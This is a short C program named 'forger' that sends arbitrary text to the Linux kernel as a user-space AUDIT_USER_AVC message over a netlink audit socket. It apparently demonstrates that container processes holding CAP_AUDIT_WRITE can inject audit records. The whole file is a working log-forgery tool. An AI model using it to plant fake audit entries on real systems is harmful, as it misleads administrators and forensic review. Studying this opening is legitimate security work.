// Sends the kernel one user-space audit message (netlink(7), audit_receive_msg in kernel/audit.c)
// with the text given: what any process with CAP_AUDIT_WRITE may do, as a container's has by
// default. AUDIT_USER_AVC is taken also while auditing is off.
#include <errno.h>
#include <linux/audit.h>
#include <linux/netlink.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define AUDIT_USER_AVC_TYPE 1107

int main(int argc, char **argv) {
  if (argc != 2 || strlen(argv[1]) > 4000) {
    fprintf(stderr, "usage: forger TEXT\n");
    return 2;
  }
  struct {
    struct nlmsghdr header;
    char text[4096];
  } message = {0};
  strcpy(message.text, argv[1]);
  message.header.nlmsg_len = NLMSG_LENGTH(strlen(argv[1]) + 1);
  message.header.nlmsg_type = AUDIT_USER_AVC_TYPE;
  message.header.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
  message.header.nlmsg_seq = 1;
  struct sockaddr_nl kernel = {.nl_family = AF_NETLINK};
  int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT);
  if (fd < 0 || sendto(fd, &message, message.header.nlmsg_len, 0, (struct sockaddr *)&kernel,
                       sizeof kernel) < 0) {
    perror("forger");
    return 1;
  }
  struct {
    struct nlmsghdr header;
    struct nlmsgerr error;
    char rest[4096];
  } answer;
  if (recv(fd, &answer, sizeof answer, 0) < 0 || answer.header.nlmsg_type != NLMSG_ERROR) {
    perror("forger: no answer");
    return 1;
  }
  if (answer.error.error != 0) {
    fprintf(stderr, "forger: %s\n", strerror(-answer.error.error));
    return 1;
  }
  return 0;
}
